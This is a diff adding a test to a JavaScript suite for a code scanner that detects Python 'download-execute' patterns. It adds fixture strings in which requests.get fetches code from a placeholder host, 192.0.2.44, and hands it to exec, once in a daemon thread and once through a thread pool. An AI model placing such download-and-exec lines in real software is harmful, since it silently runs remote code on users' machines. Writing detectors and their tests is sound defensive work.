@@ -434,3 +434,19 @@ test('an executable written from downloaded text decoded to bytes is a first sta
     'a download saved as it comes, never started',
   );
 });
+
+test('exec handed to a thread with downloaded code (Thread(target=exec, args=(code, env))) runs that code', () => {
+  const source = [
+    'import threading, requests',
+    'class Client:',
+    '    def __init__(self):',
+    '        code = requests.get("http://192.0.2.44:1488/drill").text',
+    '        threading.Thread(target=exec, args=(code, {"requests": requests}), daemon=True).start()',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high', 'from a host written in the file');
+  assert.equal(run?.line, 5);
+  const pool =
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n    pool.submit(exec, requests.get("http://192.0.2.44/x").text)\n';
+  assert.equal(findings(pool).find((f) => f.rule === 'download-execute')?.severity, 'critical', 'on import');
+});
